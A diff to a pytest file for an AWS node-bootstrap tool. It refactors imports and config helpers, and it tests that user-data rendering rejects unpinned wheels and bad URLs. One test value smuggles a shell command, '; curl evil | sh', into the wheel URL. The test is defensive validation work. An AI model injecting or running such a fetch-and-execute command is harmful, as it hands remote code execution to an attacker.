@@ -15,9 +15,10 @@ import pytest
 import yaml
 
 import octctl
-from octctl.bootstrap import BootstrapConfig
 from octctl.node_settings import Secrets
-from octctl.providers.aws.resources import AwsNodeSettings, AwsResources, NodeArtifact
+from octctl.providers.aws.bootstrap import BootstrapConfig
+from octctl.providers.aws.resources import AwsResources, NodeArtifact
+from octctl.providers.aws.settings import AwsNodeSettings
 from octctl.providers.aws.user_data import (
     BOOTSTRAP_PATH,
     USER_DATA_LIMIT,
@@ -44,19 +45,21 @@ URL = (
 )
 
 
+def aws_settings(artifact: NodeArtifact | None) -> AwsNodeSettings:
+    return AwsNodeSettings(
+        resources=AwsResources(region="eu-central-1", project="shop", cluster="c-1a2b3c4d"),
+        instance_type="t4g.small",
+        artifact=artifact,
+    )
+
+
 def config(**changes: object) -> BootstrapConfig:
     base: dict[str, object] = {
         "cluster": "c-1a2b3c4d",
-        "project": "shop",
-        "region": "eu-central-1",
         "join": ["10.0.1.5:31888", "10.0.1.6:31888"],
         "cpus": 1900,
         "memory": 3600,
-        "aws": AwsNodeSettings(
-            resources=AwsResources(region="eu-central-1", project="shop", cluster="c-1a2b3c4d"),
-            instance_type="t4g.small",
-            artifact=ARTIFACT,
-        ),
+        "provider": aws_settings(ARTIFACT),
     }
     return BootstrapConfig.model_validate({**base, **changes})
 
@@ -121,7 +124,7 @@ def test_user_data_is_cloud_config_that_installs_the_deployers_wheel_by_hash() -
 
 def test_user_data_refuses_a_wheel_it_cannot_pin() -> None:
     with pytest.raises(ValueError, match="no oct wheel"):
-        render_user_data(config(aws=None), VERSION, URL)
+        render_user_data(config(provider=aws_settings(None)), VERSION, URL)
     with pytest.raises(ValueError, match=f"oct wheel is version {VERSION}, this oct is 9.9.9"):
         render_user_data(config(), "9.9.9", URL)
     for bad in (URL + " ; curl evil | sh", URL + '"', "file:///tmp/" + WHEEL, "oct-cloud==" + VERSION):
